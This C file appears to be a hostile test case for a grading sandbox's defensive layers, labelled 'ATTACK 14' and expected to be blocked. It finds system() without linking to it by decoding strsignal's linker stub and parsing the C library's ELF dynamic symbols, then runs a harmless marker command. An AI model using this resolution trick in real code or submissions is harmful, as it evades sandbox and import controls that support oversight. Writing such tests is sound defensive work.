/* ATTACK 14: takes the address of strsignal, follows the jump that is there into the C library, and finds system.
 * assignment: pipe_ring
 * gains: runs any program
 * expect: sealed_out
 * max-score: 0
 * layers: object, namespaces, landlock
 * off: file /tmp/kit-hostile-14a
 */
#include "pipe_ring.h"

#include <stdint.h>
#include <stdlib.h>
#include <string.h>

/* Where the linker's stub for strsignal jumps to: jmp *offset(%rip). */
static const char *real_strsignal(void)
{
	const unsigned char *stub = (const unsigned char *)(uintptr_t)&strsignal;
	int32_t offset;
	strsignal(1);
	while (stub[0] != 0xff || stub[1] != 0x25)
		stub++;
	memcpy(&offset, stub + 2, sizeof offset);
	return *(const char *const *)(stub + 6 + offset);
}

/* A dlsym of its own: the C library lies round its strsignal, and tells in its dynamic section where its symbols are. */
static void *library(const char *name)
{
	const char *base = (const char *)((uintptr_t)real_strsignal() & ~(uintptr_t)4095), *names = NULL, *symbol = NULL;
	const uint64_t *part, *entry = NULL;
	while (memcmp(base, "\177ELF", 4) != 0)
		base -= 4096;
	for (part = (const uint64_t *)(base + 64); !entry; part += 7)
		if ((uint32_t)part[0] == 2) /* PT_DYNAMIC */
			entry = (const uint64_t *)(base + part[2]);
	for (; entry[0]; entry += 2)
		if (entry[0] == 5) /* DT_STRTAB */
			names = (const char *)entry[1];
		else if (entry[0] == 6) /* DT_SYMTAB */
			symbol = (const char *)entry[1];
	for (symbol += 24; symbol < names; symbol += 24)
		if (*(const uint64_t *)(symbol + 8) && strcmp(names + *(const uint32_t *)symbol, name) == 0)
			return (void *)(base + *(const uint64_t *)(symbol + 8));
	return NULL;
}

int ring_run(unsigned nodes, unsigned laps, uint64_t *token, ring_step step, void *ctx)
{
	(void)nodes;
	(void)laps;
	(void)token;
	(void)step;
	(void)ctx;
	int (*run)(const char *) = (int (*)(const char *))library("system");
	if (run)
		run("echo 14a > /tmp/kit-hostile-14a");
	return -1;
}
